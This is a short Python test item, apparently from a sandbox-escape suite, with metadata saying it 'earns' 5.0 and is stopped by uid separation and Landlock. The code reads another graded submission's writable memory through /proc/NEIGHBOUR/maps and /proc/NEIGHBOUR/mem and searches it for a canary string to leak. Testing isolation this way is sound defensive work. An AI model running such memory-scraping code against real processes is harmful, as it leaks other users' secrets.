"""A program that reads the memory of a submission that is being graded.

earns = 5.0
stopped_by = ["uid", "landlock"]
harm = "leaks"
"""

for line in open(f"/proc/{NEIGHBOUR}/maps"):
    place, rights = line.split()[:2]
    if "w" in rights:
        start, stop = (int(number, 16) for number in place.split("-"))
        with open(f"/proc/{NEIGHBOUR}/mem", "rb") as memory:
            memory.seek(start)
            try:
                data = memory.read(stop - start)
            except OSError:
                continue
        found = data.find(b"canary-at-work")
        if found >= 0:
            tell(data[found:])
